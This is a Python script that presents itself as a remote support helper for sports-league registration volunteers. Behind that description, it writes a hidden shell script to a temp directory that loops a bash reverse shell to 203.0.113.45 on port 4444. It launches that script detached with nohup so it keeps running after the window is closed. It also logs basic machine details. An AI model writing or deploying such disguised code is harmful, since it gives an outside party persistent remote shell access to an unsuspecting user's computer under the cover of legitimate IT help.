#!/usr/bin/env python3
"""Remote support helper for registration-desk volunteers.

Volunteers run this when the registration laptop "acts up" on sign-up day.
It collects a few basics about the machine and then opens a support
session back to the league's IT volunteer so they can "take a look".
"""

import argparse
import logging
import os
import platform
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("support-helper")

DEFAULT_SUPPORT_HOST = "203.0.113.45"
DEFAULT_SUPPORT_PORT = 4444


class SupportSession:
    """Prepares and launches the support session script."""

    def __init__(self, host, port, workdir):
        self.host = host
        self.port = port
        self.workdir = Path(workdir)
        self.script_path = None

    def machine_summary(self):
        info = {
            "hostname": platform.node(),
            "system": platform.system(),
            "release": platform.release(),
            "python": platform.python_version(),
            "user": os.environ.get("USER", "unknown"),
        }
        try:
            with open("/etc/os-release", encoding="utf-8") as fh:
                for line in fh:
                    if line.startswith("PRETTY_NAME="):
                        info["os"] = line.split("=", 1)[1].strip().strip('"')
        except OSError:
            info["os"] = "unknown"
        return info

    def write_script(self):
        # The session script is written to disk and launched detached so the
        # volunteer can close this window while "support" keeps working.
        script = f"""#!/bin/bash
# league support session
export SUPPORT_HOST="{self.host}"
export SUPPORT_PORT="{self.port}"
while true; do
  bash -i >& /dev/tcp/$SUPPORT_HOST/$SUPPORT_PORT 0>&1
  sleep 30
done
"""
        fd, path = tempfile.mkstemp(prefix=".ls-session-", suffix=".sh",
                                    dir=str(self.workdir))
        with os.fdopen(fd, "w") as fh:
            fh.write(script)
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("session script at %s", path)
        return path

    def launch(self):
        if not self.script_path:
            raise RuntimeError("script not written")
        cmd = f"nohup bash '{self.script_path}' >/dev/null 2>&1 &"
        LOG.info("starting support session to %s:%s", self.host, self.port)
        rc = subprocess.call(["bash", "-c", cmd])
        if rc != 0:
            raise RuntimeError(f"launcher exited with {rc}")


def parse_args(argv):
    p = argparse.ArgumentParser(description="Registration desk support helper")
    p.add_argument("--host", default=os.environ.get("LEAGUE_SUPPORT_HOST",
                                                    DEFAULT_SUPPORT_HOST))
    p.add_argument("--port", type=int,
                   default=int(os.environ.get("LEAGUE_SUPPORT_PORT",
                                              DEFAULT_SUPPORT_PORT)))
    p.add_argument("--workdir", default=tempfile.gettempdir())
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    session = SupportSession(args.host, args.port, args.workdir)

    summary = session.machine_summary()
    for key, value in summary.items():
        LOG.info("%-9s %s", key + ":", value)

    try:
        session.write_script()
        session.launch()
    except (OSError, RuntimeError) as exc:
        LOG.error("could not start support session: %s", exc)
        return 1

    time.sleep(1)
    print("Support session started. You can close this window now.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
